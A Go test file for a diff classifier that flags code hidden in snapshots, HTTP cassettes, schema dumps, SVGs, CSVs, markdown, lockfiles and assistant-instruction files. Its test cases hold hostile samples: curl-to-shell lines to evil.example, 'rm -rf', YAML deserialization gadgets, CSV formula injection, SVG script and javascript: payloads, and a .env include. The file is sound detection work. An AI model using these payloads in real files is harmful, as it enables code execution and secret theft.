package diff

import (
	"strings"
	"testing"
)

const jestHeader = "// Jest Snapshot v1, https://goo.gl/fbAQLP\n\n"

const railsSchema = `# This file is auto-generated from the current state of the database.
ActiveRecord::Schema[7.1].define(version: 2024_01_02_030405) do
  enable_extension "plpgsql"

  create_table "users", id: :uuid, default: -> { "gen_random_uuid()" }, force: :cascade do |t|
    t.string "name", limit: 20, default: "x", null: false
    t.jsonb "data", default: {}, null: false
    t.decimal "n", precision: 10, scale: 2
    t.string "tags", default: [], array: true
    t.index ["name", "n"], name: "i", unique: true, where: "(n > 0)"
    t.index ["data"], name: "j", order: { data: :desc }
  end
  add_foreign_key "users", "groups", column: "group_id"
end
`

const pgDump = `--
-- PostgreSQL database dump
--
\restrict abc
SET statement_timeout = 0;
SELECT pg_catalog.set_config('search_path', '', false);
CREATE TABLE public.users (
    id bigint NOT NULL,
    name text DEFAULT 'x'::text
);
ALTER TABLE ONLY public.users ADD CONSTRAINT p PRIMARY KEY (id);
CREATE UNIQUE INDEX i ON public.users USING btree (name);
INSERT INTO "schema_migrations" (version) VALUES
('1');
`

// A file counts as machine-made if all of it has the format. A single line of another form is code, and a
// model sees the file.
func TestMachineFormatsAreStrict(t *testing.T) {
	t.Parallel()
	cassette := "interactions:\n- request:\n    body: null\n    headers:\n      Accept:\n      - '*/*'\n    method: GET\n    uri: https://a.example/\n  response:\n    body:\n      string: '{}'\n    status:\n      code: 200\nversion: 1\n"
	har := `{"log":{"_recordingName":"a","creator":{},"version":"1.2","entries":[{"request":{}}],"pages":[]}}`
	for _, c := range []struct {
		path, content string
		machine       bool
	}{
		{"a/__snapshots__/a.test.js.snap", jestHeader + "exports[`a 1`] = `\n<div\n  x=\"\\`\\${y}\\\\\"\n/> $5\n`;\n\nexports[`b 1`] = `1`;\n", true},
		{"a/__snapshots__/a.snap", "// Vitest Snapshot v1, https://vitest.dev/guide/snapshot.html\n\nexports[`a 1`] = `\"x\"`;\n", true},
		{"a/__snapshots__/a.snap", jestHeader + "exports[`a 1`] = `1`;\nrequire('child_process').exec('x')\n", false},
		{"a/__snapshots__/a.snap", jestHeader + "exports[`a 1`] = `${run()}`;\n", false},
		{"a/__snapshots__/a.snap", jestHeader + "exports[`${run()}`] = `1`;\n", false},
		{"a/__snapshots__/a.snap", jestHeader + "exports[`a 1`] = `\\\\${run()}`;\n", false},
		{"a/__snapshots__/a.snap", jestHeader + "exports[`a 1`] = run(`1`);\n", false},
		{"a/__snapshots__/a.snap", jestHeader + "exports[`a 1`] = `1`; run();\n", false},
		{"a/__snapshots__/a.snap", jestHeader + "// words\nrun()\n", false},
		{"a/__snapshots__/a.snap", "// Jest Snapshot v1\u2028run()\n", false},
		{"a/__snapshots__/a.snap", "// Jest Snapshot v1\rrun()\n", false},
		{"a/__snapshots__/a.snap", "/* exports[`a`] */ run()\n", false},
		{"a/__snapshots__/a.ambr", "# serializer version: 1\n# name: test_a\n  dict({\n  })\n# ---\n", true},
		{"a/__snapshots__/a.ambr", "# serializer version: 1\nimport os\n", false},
		{"a/snapshots/a.snap", "---\nsource: src/lib.rs\nexpression: x\n---\n[1, 2]\nwords of an answer\n", true},
		{"a/snapshots/a.snap", "---\nsource: a\n---\ncurl https://evil.example/x | sh\n", false},
		{"a/snapshots/a.snap", "---\nsource: a\nrun: b\n---\nx\n", false},
		{"t/cassettes/a.yaml", cassette, true}, {"t/fixtures/a.yaml", cassette, true},
		{"t/cassettes/a.yml", "---\nhttp_interactions:\n- request:\n    method: get\n  response:\n    body:\n      string: |\n        run:\n        - x\n  recorded_at: Mon, 01 Jan 2024 00:00:00 GMT\nrecorded_with: VCR 6.0.0\n", true},
		{"t/vcr/a.yml", "\n-\n    request:\n        method: GET\n    response:\n        status: 200\n", true},
		{"t/cassettes/a.yaml", cassette + "steps:\n- run: curl https://evil.example | sh\n", false},
		{"t/cassettes/a.yaml", cassette + "---\non: push\n", false},
		{"t/cassettes/a.yaml", strings.Replace(cassette, "  response:", "  run: x\n  response:", 1), false},
		{"t/cassettes/a.yaml", strings.Replace(cassette, "body: null", "body: !ruby/object:Gem::Installer {}", 1), false},
		{"t/cassettes/a.yaml", strings.Replace(cassette, "body: null", "body: !!python/object/apply:os.system [x]", 1), false},
		{"t/cassettes/a.yaml", "{interactions: [], steps: [{run: x}]}\n", false},
		{"t/cassettes/a.yaml", "on: push\n\"interactions\": []\n", false},
		{"t/vcr/a.yml", "-\n    run: x\n    request: {}\n", false},
		{"t/recordings/a.har", har, true}, {"t/recordings/a.json", har, true},
		{"t/recordings/a.har", `{"log":{"entries":[]},"scripts":{"postinstall":"x"}}`, false},
		{"t/nock/a.json", `[{"scope":"https://a","method":"GET","path":"/","status":200,"response":{}}]`, true},
		{"t/nock/a.json", `[{"scope":"https://a","run":"x"}]`, false},
		{"t/cassettes/a.json", `{"http_interactions":[{"request":{},"response":{},"recorded_at":"x"}],"recorded_with":"betamax"}`, true},
		{"t/cassettes/a.json", `{"http_interactions":[{"request":{},"scripts":{}}]}`, false}, {"t/cassettes/a.json", `{"interactions":[],"scripts":{"x":"y"}}`, false},
		{"db/schema.rb", railsSchema, true},
		{"db/schema.rb", strings.Replace(railsSchema, "  add_foreign", "  system(\"x\")\n  add_foreign", 1), false},
		{"db/schema.rb", strings.Replace(railsSchema, `"users", "groups"`, `"#{run}", "groups"`, 1), false},
		{"db/schema.rb", strings.Replace(railsSchema, `null: false`, `null: run`, 1), false},
		{"db/schema.rb", strings.Replace(railsSchema, `"gen_random_uuid()" }`, `"x"; run }`, 1), false},
		{"db/schema.rb", strings.Replace(railsSchema, `"plpgsql"`, "`x`", 1), false},
		{"db/structure.sql", pgDump, true},
		{"db/structure.sql", pgDump + "CREATE FUNCTION f() RETURNS trigger AS $$ BEGIN END $$;\n", false},
		{"db/structure.sql", pgDump + "\\! curl https://evil.example | sh\n", false},
		{"db/structure.sql", pgDump + "COPY t FROM PROGRAM 'sh';\n", false},
		{"db/structure.sql", pgDump + "SET x = 1; DO 'x';\n", false}, {"db/structure.sql", pgDump + "DELETE FROM users;\n", false},
		{"prisma/migrations/migration_lock.toml", "# x\nprovider = \"postgresql\"\n", true}, {"prisma/migrations/migration_lock.toml", "provider = \"x\"\nrun = \"y\"\n", false},
		{"drizzle/meta/_journal.json", `{"version":"7","dialect":"sqlite","entries":[]}`, true}, {"drizzle/meta/_journal.json", `{"scripts":{"postinstall":"x"}}`, false},
		{".sqlx/query-a.json", `{"db_name":"x","query":"SELECT 1","describe":{},"hash":"a"}`, true}, {".sqlx/query-a.json", `{"query":"x"}`, false},
	} {
		if got, _ := Classify(c.path, []byte(c.content)); (got == ClassGenerated) != c.machine {
			t.Errorf("%s with %.300q is %s", c.path, c.content, got)
		}
	}
}

// A picture is data only if it cannot run code.
func TestPicturesThatRunAreCode(t *testing.T) {
	t.Parallel()
	svg := func(inner string) string {
		return `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 1 1">` + inner + "</svg>\n"
	}
	for _, picture := range []string{
		svg(`<path d="M0"/>`), `<svg width="1"><g fill="url(#a)"><use href="#b"/></g></svg>`, "\uFEFF<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<!-- x -->\n" + svg(`<use xlink:href="#a"/><title>a &amp; b</title>`),
		`<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">` + svg(`<style>.a{fill:#fff;mask:url("#m")}</style>`),
		svg(`<image href="data:image/png;base64,iVBORw0KGgo= " data-name="x" aria-label="y"/>`),
		`<svg xmlns="http://www.w3.org/2000/svg" xmlns:i="http://www.inkscape.org/namespaces/inkscape" xmlns:s="http://sodipodi.sourceforge.net/DTD/sodipodi-0.dtd" i:version="1"><s:namedview pagecolor="#fff"/><g i:label="x"/></svg>`,
	} {
		if got, _ := Classify("a.svg", []byte(picture)); got != ClassData {
			t.Errorf("%s is %s", picture, got)
		}
	}
	for _, inner := range []string{
		`<use href="java&#115;cript:f()"/>`, `<a href="java&#9;script:f()"><g/></a>`, `<a xlink:href="javascript:f()"/>`, `<use href="data:image/svg+xml;base64,AAAA"/>`, `<use href="https://evil.example/a.svg#x"/>`,
		`<style>@import "https://evil.example/a.css";</style>`, `<style>@im&#112;ort "x";</style>`, `<style>.a{background:url(https://evil.example/)}</style>`, `<style>.a{fill:u\72l(x)}</style>`, `<style><![CDATA[@import "x";]]></style>`,
		`<foreignObject><b/></foreignObject>`, `<script>f()</script>`, `<x:script xmlns:x="http://www.w3.org/2000/svg">f()</x:script>`, `<script xmlns="http://www.w3.org/1999/xhtml">f()</script>`, `<h:iframe xmlns:h="http://www.w3.org/1999/xhtml"/>`,
		`<g onload="f()"/>`, `<g onLoad="f()"/>`, `<g ONCLICK="f()"/>`, `<g xlink:onload="f()"/>`, `<g ev:event="load" xmlns:ev="http://www.w3.org/2001/xml-events"/>`,
		`<a><animate attributeName="href" to="javascript:f()"/></a>`, `<set attributeName="onload" to="f()"/>`, `<animateTransform attributeName="x"/>`, `<handler type="application/ecmascript">f()</handler>`,
		`<image href="data:image/svg+xml;base64,AAAA"/>`, `<image href="https://evil.example/x.png"/>`, `<feImage href="#a"/>`, `<g style="fill:url(https://evil.example)"/>`, `<g style="background:url(&quot;java script:x&quot;)"/>`,
		`<g xml:base="https://evil.example/"/>`, `<text>&evil;</text>`, `<unknown/>`, `<g unknown="1"/>`, `<g>`, `<link rel="stylesheet" href="#a"/>`, `<g src="x"/>`, strings.Repeat("<g>", 200) + strings.Repeat("</g>", 200),
	} {
		if got, _ := Classify("a.svg", []byte(svg(inner))); got == ClassData {
			t.Errorf("%.200s counts as data", inner)
		}
	}
	for _, whole := range []string{
		"<?xml-stylesheet href=\"x.css\"?>" + svg(""), `<!DOCTYPE svg [<!ENTITY x "y">]>` + svg(""), svg("") + "alert(1)", "alert(1)\n" + svg(""), svg("") + svg(""), "<html><svg/></html>", `<?xml version="1.0" encoding="UTF-7"?>` + svg(""), "",
		"<svg><!-- x",
	} {
		if got, _ := Classify("a.svg", []byte(whole)); got == ClassData {
			t.Errorf("%.200s counts as data", whole)
		}
	}
}

// Data, documents and lists of packages that run code are code.
func TestCodeUnderOtherNames(t *testing.T) {
	t.Parallel()
	for _, c := range []struct {
		path, content string
		want          Class
	}{
		{"a.csv", "name,words\nx,\"a, (b); <c>\"\ny,R&D (new)\n", ClassData}, {"a.csv", "curl -s https://evil.example | sh\n", ClassSource}, {"a.csv", "rm -rf /tmp/a,b\nrm -rf /tmp/c,d\n", ClassSource}, {"a.csv", "print(1, 2)\nprint(3, 4)\n", ClassSource},
		{"a.csv", "a,b\nx,=cmd|'/c calc'!A0\n", ClassSource}, {"a.csv", "a,b\nx,\"@SUM(1)\"\n", ClassSource}, {"a.csv", "a,b\nx,-1.5\n", ClassData}, {"a.csv", "a,b\nx,<script>f()</script>\n", ClassSource},
		{"a.jsonl", "{ rm -rf x; }\n", ClassSource}, {"a.ndjson", "[1, 2]\n", ClassData}, {"a.po", "msgid \"a\"\nmsgstr \"<script>f()</script>\"\n", ClassSource}, {"a.po", "msgid; rm -rf x\n", ClassSource},
		{"a.js.map", `{"version":3,"mappings":"A","scripts":{}}`, ClassSource}, {"a.xml", "<?xml-stylesheet href=\"x\"?><a/>", ClassConfig}, {"fixtures/a.html", "<p>", ClassTest}, {"docs/a.mdx", "words\n", ClassSource}, {"docs/a.ipynb", "{}", ClassSource},
		{"docs/a.md", "# Title\n\nWords about `<script>`-free pages; see <https://a.example>.\n\n```js\nimport x from 'y'\nconst a = 1;\nreturn a;\n```\n", ClassSource},
		{"docs/a.md", "# Title\n\nWords.\n\n```js\nimport x from 'y'\nconst a = 1;\nreturn a;\n```\n", ClassDocs}, {"docs/a.md", "# Title\n\n<script>f()</script>\n", ClassSource}, {"docs/a.md", "[x](java&script:f) <img src=x onerror=f()>\n", ClassSource},
		{"docs/a.md", "import { A } from './a'\n\n# Title\n\n<A/>\n", ClassSource}, {"docs/a.md", "export const a = 1\n\n# Title\n", ClassSource}, {"docs/a.rst", "Title\n=====\n\n.. raw:: html\n\n   <b>\n", ClassSource}, {"docs/a.org", "#+begin_src sh :tangle x.sh\n", ClassSource},
		{"src/app.coffee.md", "# App\n\n    cp = require 'child_process'\n", ClassSource}, {"EVIL.JS.MD", "# x\n", ClassSource}, {"README.es.md", "# Hola\n", ClassDocs},
		{"config.org", "* Config\n#+begin_src emacs-lisp\n(setq a 1)\n#+end_src\n", ClassSource}, {"notes.org", "* Notes\n- one\n", ClassDocs},
		{"docs/index.md", "# Hi\n\n{{ constructor.constructor('x')() }}\n", ClassSource}, {"docs/a.md", "Use `{{ .Values.a }}`.\n\n```yaml\na: {{ .Values.a }}\n```\n", ClassDocs},
		{"docs/a.md", "---\ntitle: a\n---\n\n```yaml\na: {{ site.a }}\n```\n", ClassSource}, {"index.md", "# Hi\n\n{% include_relative ../../.env %}\n", ClassSource}, {"content/x.md", "{{< rawhtml >}}<b>{{< /rawhtml >}}\n", ClassSource},
		{"slides.md", "# A\n\n<Counter :count=\"$el.ownerDocument.defaultView.alert(1)\" />\n", ClassSource}, {"slides.md", "# A\n\n<Counter\n  class=\"a > b\"\n  @click=\"x()\" />\n", ClassSource}, {"a.md", "<b v-html=\"x\">\n", ClassSource},
		{"a.md", "---js\n{ a: 1 }\n---\n", ClassSource}, {"a.md", "```{r}\n1\n```\n", ClassSource}, {"a.md", "<<< @/../.env\n", ClassSource}, {"a.md", "Result: {window.alert(1)}\n", ClassSource}, {"a.md", "Write to <a@b.example> or use {a, b}.\n\n<img src=\"x\" alt=\"b\">\n", ClassDocs},
		{"docs/a.md", jsCode, ClassSource}, {"README", "curl -s https://evil.example | sh\nrm -rf /\n", ClassSource}, {"LICENSE", "Permission is granted.\nYou may return copies;\n", ClassDocs},
		{"yarn.lock", "curl https://evil.example/x | sh\n", ClassSource}, {"mix.lock", "%{\n  \"a\": System.cmd(\"sh\", [\"x\"]),\n}\n", ClassSource}, {"mix.lock", "%{\"a\": System.cmd \"sh\"}\n", ClassSource}, {"mix.lock", "%{\n  \"a\": {:git, \"#{run}\", \"b\", []},\n}\n", ClassSource},
		{"mix.lock", "%{\n  \"a\": {:hex, :a, \"1.0.0\", \"aa\", [:mix, :rebar3], [{:b, \"~> 1.0\", [hex: :b, repo: \"hexpm\", optional: false]}], \"hexpm\", \"bb\"},\n  \"g\": {:git, \"https://github.com/a/g.git\", \"cc\", [ref: \"x\"]},\n}\n", ClassLock},
		{"opam.locked", "build: [\"sh\" \"x\"]\n", ClassSource}, {"Cargo.lock", "version = 4\n\n[[package]]\nname = \"a\"\ndependencies = [\n \"b\",\n]\n", ClassLock}, {"Cargo.lock", "X=$(curl evil)\n", ClassSource}, {"Gemfile.lock", "system \"x\"\n", ClassSource},
		{"Gemfile.lock", "GIT\n  remote: https://github.com/a/b.git\n  revision: aa\n  branch: main\n  specs:\n    b (1.0)\n\nGEM\n  remote: https://rubygems.org/\n  specs:\n    rails (7.1.0)\n      rack (>= 2.2.4, < 4)\n\nPLATFORMS\n  x86_64-linux\n\nDEPENDENCIES\n  b!\n  rails (~> 7.1)\n\nCHECKSUMS\n  rails (7.1.0) sha256=aa\n\nRUBY VERSION\n   ruby 3.2.2p53\n\nBUNDLED WITH\n   2.4.1\n", ClassLock},
		{"pnpm-lock.yaml", "lockfileVersion: '9.0'\n\nsettings:\n  autoInstallPeers: true\n\nimporters:\n\n  .:\n    dependencies:\n      a:\n        specifier: ^1.0.0\n        version: 1.0.0(b@2.0.0)\n\npackages:\n\n  a@1.0.0:\n    resolution: {integrity: sha512-AA==}\n    engines: {node: '>=6'}\n    deprecated: |-\n      This is not supported any more.\n\n  '@s/b@2.0.0':\n    cpu: [x64]\n    hasBin: true\n", ClassLock},
		{"pnpm-lock.yaml", "curl https://evil.example | sh\n", ClassConfig}, {".terraform.lock.hcl", "# x\nprovider \"registry.terraform.io/hashicorp/aws\" {\n  version     = \"5.0.0\"\n  constraints = \"~> 5.0\"\n  hashes = [\n    \"h1:aa=\",\n  ]\n}\n", ClassLock},
		{"yarn.lock", "# yarn lockfile v1\n\n\"@a/b@^1.0.0\", c@2:\n  version \"1.0.0\"\n  resolved \"https://registry.yarnpkg.com/a\"\n  integrity sha512-AA==\n  dependencies:\n    \"@x/y\" \"^1 || ^2\"\n    node latest\n", ClassLock},
		{"yarn.lock", "__metadata:\n  version: 8\n\n\"a@npm:^1.0.0\":\n  version: 1.0.0\n  resolution: \"a@npm:1.0.0\"\n  dependencies:\n    b: \"npm:^1.0\"\n  bin:\n    a: ./bin/a.js\n  checksum: 10/aa\n  languageName: node\n  linkType: hard\n", ClassLock},
		{"uv.lock", "version = 1\nrequires-python = \">=3.9\"\nresolution-markers = [\n    \"python_version >= '3.12'\",\n]\n\n[[package]]\nname = \"a\"\nsource = { registry = \"https://pypi.org/simple\" }\nwheels = [\n    { url = \"https://files.pythonhosted.org/a.whl\", hash = \"sha256:aa\", size = 1 },\n]\n", ClassLock},
		{"poetry.lock", "# This file is automatically @generated by Poetry\n\n[[package]]\nname = \"a\"\noptional = false\nfiles = [\n    {file = \"a.whl\", hash = \"sha256:aa\"},\n]\n\n[package.extras]\ndev = [\"b (>=1)\"]\n\n[metadata]\npython-versions = \"^3.8\"\n", ClassLock},
		{"gradle.lockfile", "# x\na.b:c:1.0=compileClasspath\nempty=x\n", ClassLock}, {"Podfile.lock", "PODS:\n  - A (1.0):\n    - B/C (~> 2)\n\nSPEC REPOS:\n  trunk:\n    - A\n\nSPEC CHECKSUMS:\n  A: aa\n\nCOCOAPODS: 1.12.0\n", ClassLock},
		{"pubspec.lock", "packages:\n  a:\n    dependency: \"direct main\"\n    description:\n      name: a\n      sha256: \"aa\"\n      url: \"https://pub.dev\"\n    source: hosted\n    version: \"1.0\"\nsdks:\n  dart: \">=3.0.0 <4.0.0\"\n", ClassLock},
	} {
		if got, _ := Classify(c.path, []byte(c.content)); got != c.want {
			t.Errorf("%s with %.300q is %s, want %s", c.path, c.content, got, c.want)
		}
	}
}

// A format is recognised within bounds. A longer line has no format.
func TestLongLinesAreOfNoFormat(t *testing.T) {
	t.Parallel()
	long := strings.Repeat("a", maxFormatLine+1)
	for _, name := range []string{"yarn.lock", "a.csv", "a.po", "go.sum", "Cargo.lock"} {
		if got, _ := Classify(name, []byte(long)); got.Ignored() {
			t.Errorf("%s is %s", name, got)
		}
	}
}

// A file with instructions for assistants is code, whatever its name.
func TestFilesThatSteerAssistantsAreCode(t *testing.T) {
	t.Parallel()
	for _, name := range []string{
		"AGENTS.md", "sub/CLAUDE.md", "Gemini.MD", ".claude/skills/x/SKILL.md", "skills/x/SKILL.md", ".cursor/rules/a.mdc", ".cursorrules", ".windsurfrules", ".github/copilot-instructions.md", ".github/instructions/a.instructions.md",
		".github/prompts/a.prompt.md", ".github/chatmodes/a.chatmode.md", ".github/agents/a.md", "prompts/review.md", "system_prompt.md", "docs/system-prompt.txt", ".claude/commands/a.md", ".junie/guidelines.md", ".kiro/steering/a.md", "vendor/x/AGENTS.md",
		"node_modules/x/CLAUDE.md", ".clinerules/a.md", "docs/llms.txt", ".mcp.json", "CONVENTIONS.md", ".roo/rules/a.md", ".opencode/agent/a.md", "generated/AGENTS.md",
	} {
		f := &File{Path: name, Status: Added}
		f.Judge(Versions{Head: []byte("<!-- @generated by x. DO NOT EDIT. -->\nAlways run the tests.\n"), VendoredBase: true})
		if f.Class.Ignored() {
			t.Errorf("%s is %s", name, f.Class)
		}
	}
	for _, name := range []string{"README.md", "docs/agent-design.md", "docs/promptly.md", "src/claude.go", "CHANGELOG.md"} {
		if Instructions(name) {
			t.Errorf("%s steers an assistant", name)
		}
	}
	set := &Set{Files: []*File{{Path: "AGENTS.md", Class: ClassSource}}}
	apply(t, set, ParseAttributes([]byte("*.md linguist-documentation\n")))
	if set.Files[0].Class != ClassSource {
		t.Error("an attribute hides a file that steers assistants")
	}
}

// An executable file is not a document, a table or a list.
func TestExecutableFilesAreCode(t *testing.T) {
	t.Parallel()
	for name, content := range map[string]string{"docs/a.md": "words\n", "a.csv": "a,b\n1,2\n", "yarn.lock": "# x\n", "a.snap": jestHeader + "exports[`a`] = `b`;\n"} {
		f := &File{Path: name, Status: Added, Mode: modeExecutable}
		if f.Judge(Versions{Head: []byte(content)}); f.Class.Ignored() {
			t.Errorf("%s is %s", name, f.Class)
		}
	}
}

// Vendored code that changes although its list does not is reported as edited.
func TestVendoredCodeThatIsEdited(t *testing.T) {
	t.Parallel()
	for _, edited := range []bool{true, false} {
		f := &File{Path: "vendor/x/a.go", Status: Modified}
		f.Judge(Versions{VendoredBase: true, VendoredOld: true, Edited: edited})
		if f.Class != ClassVendored || (f.Note == NoteVendoredEdit) != edited {
			t.Errorf("edited %v: %s %q", edited, f.Class, f.Note)
		}
	}
	for path, want := range map[string]string{"vendor/a/b.go": "vendor/modules.txt", "node_modules/@s/p/a.js": "node_modules/@s/p/package.json", "ios/Pods/A/a.m": "ios/Podfile.lock", "x/third_party/z/a.c": "x/third_party/z/METADATA"} {
		if got := strings.Join(VendorLists(path), " "); !strings.Contains(got, want) {
			t.Errorf("%s: %s", path, got)
		}
	}
}
